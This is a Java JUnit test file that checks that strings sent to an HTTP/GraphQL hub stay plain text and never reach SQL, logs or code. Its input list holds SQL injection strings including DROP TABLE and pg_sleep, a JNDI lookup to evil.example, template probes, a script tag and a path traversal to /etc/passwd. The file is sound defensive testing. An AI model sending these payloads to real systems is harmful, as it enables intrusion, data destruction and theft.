package org.peyman.hub.http;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import io.vertx.core.json.JsonObject;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.peyman.hub.support.CapturedLog;

/**
 * No text that a caller may write anywhere becomes part of a statement, of a line of the log or of
 * code.
 */
final class InjectionTest {

  /** Each would wait, fail or change something where it were taken for more than a text. */
  private static final List<String> TEXTS =
      List.of(
          "' OR '1'='1",
          "'; SELECT pg_sleep(9); --",
          "1; DROP TABLE claim; --",
          "') UNION SELECT version() --",
          "$$; SELECT pg_sleep(9); $$",
          "\\'; SELECT pg_sleep(9); --",
          "%' AND (SELECT 1 FROM pg_sleep(9)) IS NOT NULL --",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}#{7*7}%s%n",
          "<script>alert(1)</script>",
          "../../../../etc/passwd",
          "$1 ? :name \u0000 \u2028 \ufffe");

  @RegisterExtension final CapturedLog log = CapturedLog.ofAll();

  /** What it says while it starts is none of the attacks' doing. */
  @BeforeAll
  static void start() {
    assertThat(AttackedHub.port()).isPositive();
  }

  @ParameterizedTest
  @MethodSource("org.peyman.hub.http.StringArguments#all")
  void aTextIsATextWhereverItIsWritten(StringArguments.Place place) {
    for (String text : TEXTS) {
      String body = new JsonObject().put("query", place.with(text)).encode();
      Raw request = AttackedHub.post(body);
      long begun = System.nanoTime();
      Raw.Answer answer = request.send();
      Duration took = Duration.ofNanos(System.nanoTime() - begun);

      assertThat(answer.status()).as(text + "\n" + answer.body()).isIn(200, 400);
      assertThat(took).as(text).isLessThan(AttackedHub.longest());
      assertThat(answer.body())
          .as(text)
          .doesNotContain("INTERNAL", "PostgreSQL 1", "syntax error", "pg_catalog", "Exception");
    }
    assertThat(log.events()).noneMatch(event -> event.getLevel().isGreaterOrEqual(Level.WARN));
    assertThat(log.messages()).noneMatch(line -> line.contains("evil.example"));
  }

  /** Where it could not be generated, the test above would pass for nothing. */
  @Test
  void theSchemaHasManyPlacesForTextsAndDocumentsThatReachThem() {
    List<StringArguments.Place> places = StringArguments.all();

    assertThat(places).hasSizeGreaterThan(60);
    assertThat(places)
        .extracting(StringArguments.Place::name)
        .contains(
            "Query.node(id)",
            "Query.progress(filter.provinces)",
            "Query.jobs(after)",
            "Mutation.submitClaims(input.items.claimId)",
            "Mutation.retryQuarantined(ids)");
    assertThat(places)
        .allSatisfy(
            place -> {
              String body = new JsonObject().put("query", place.with("2021-03-20")).encode();
              assertThat(AttackedHub.post(body).send().body())
                  .as(place.document())
                  .doesNotContain("VALIDATION_FAILED", "LIMIT_EXCEEDED", "Invalid syntax");
            });
  }
}
